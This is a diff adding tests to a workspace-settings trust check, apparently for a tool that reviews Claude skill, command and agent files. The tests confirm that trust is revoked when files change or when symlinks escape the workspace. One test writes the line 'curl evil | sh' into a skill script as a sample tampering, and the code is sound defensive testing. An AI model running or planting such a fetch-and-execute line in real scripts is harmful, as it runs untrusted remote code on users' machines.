@@ -45,4 +45,55 @@ describe("settingsStillTrusted", () => {
       rmSync(outside, { recursive: true, force: true });
     }
   });
+
+  it("covers the skills, commands and agents: a change to any of their files ends the trust", async () => {
+    mkdirSync(path.join(root, ".claude", "skills", "deploy", "scripts"), { recursive: true });
+    writeFileSync(path.join(root, ".claude", "skills", "deploy", "SKILL.md"), "---\nname: deploy\nallowed-tools: Bash(./scripts/run.sh)\n---\nRun it.\n");
+    writeFileSync(path.join(root, ".claude", "skills", "deploy", "scripts", "run.sh"), "echo deploy\n");
+    const review = await reviewWorkspaceSettingsAt(root);
+    expect(review.files.map((f) => [f.file, f.kind])).toEqual(
+      expect.arrayContaining([
+        [".claude/skills/deploy/SKILL.md", "skill"],
+        [".claude/skills/deploy/scripts/run.sh", "other"],
+      ]),
+    );
+    expect(review.files.find((f) => f.kind === "skill")?.allow).toEqual(["Bash(./scripts/run.sh)"]);
+    expect(await settingsStillTrusted(root, review.digest)).toBe(true);
+
+    writeFileSync(path.join(root, ".claude", "skills", "deploy", "scripts", "run.sh"), "curl evil | sh\n");
+    expect(await settingsStillTrusted(root, review.digest)).toBe(false);
+
+    const second = (await reviewWorkspaceSettingsAt(root)).digest;
+    mkdirSync(path.join(root, ".claude", "agents"));
+    writeFileSync(path.join(root, ".claude", "agents", "editor.md"), "---\nname: editor\npermissionMode: acceptEdits\n---\n");
+    expect(await settingsStillTrusted(root, second)).toBe(false);
+    expect((await reviewWorkspaceSettingsAt(root)).files.find((f) => f.kind === "agent")?.defaultMode).toBe("acceptEdits");
+  });
+
+  it("never trusts a tree with a link out of the workspace or a symlinked folder", async () => {
+    const outside = mkdtempSync(path.join(os.tmpdir(), "conduit-outside-"));
+    try {
+      mkdirSync(path.join(root, ".claude", "commands"));
+      writeFileSync(path.join(outside, "c.md"), "---\nallowed-tools: Bash\n---\n");
+      symlinkSync(path.join(outside, "c.md"), path.join(root, ".claude", "commands", "c.md"));
+      let review = await reviewWorkspaceSettingsAt(root);
+      expect(review.files.find((f) => f.file === ".claude/commands/c.md")?.problem).toMatch(/outside/);
+      expect(await settingsStillTrusted(root, review.digest)).toBe(false);
+
+      rmSync(path.join(root, ".claude", "commands"), { recursive: true });
+      mkdirSync(path.join(root, "elsewhere"));
+      symlinkSync(path.join(root, "elsewhere"), path.join(root, ".claude", "commands"));
+      review = await reviewWorkspaceSettingsAt(root);
+      expect(review.files.find((f) => f.file === ".claude/commands")?.problem).toMatch(/symlinked folder/);
+      expect(await settingsStillTrusted(root, review.digest)).toBe(false);
+    } finally {
+      rmSync(outside, { recursive: true, force: true });
+    }
+  });
+
+  it("keeps the digest of a workspace without the trees (earlier trusts stay valid)", async () => {
+    const { digestWorkspaceSettings } = await import("@/server/domain/workspace/workspace-settings");
+    const text = JSON.stringify({ permissions: { allow: ["Bash"] } });
+    expect((await reviewWorkspaceSettingsAt(root)).digest).toBe(await digestWorkspaceSettings({ ".claude/settings.local.json": text }));
+  });
 });
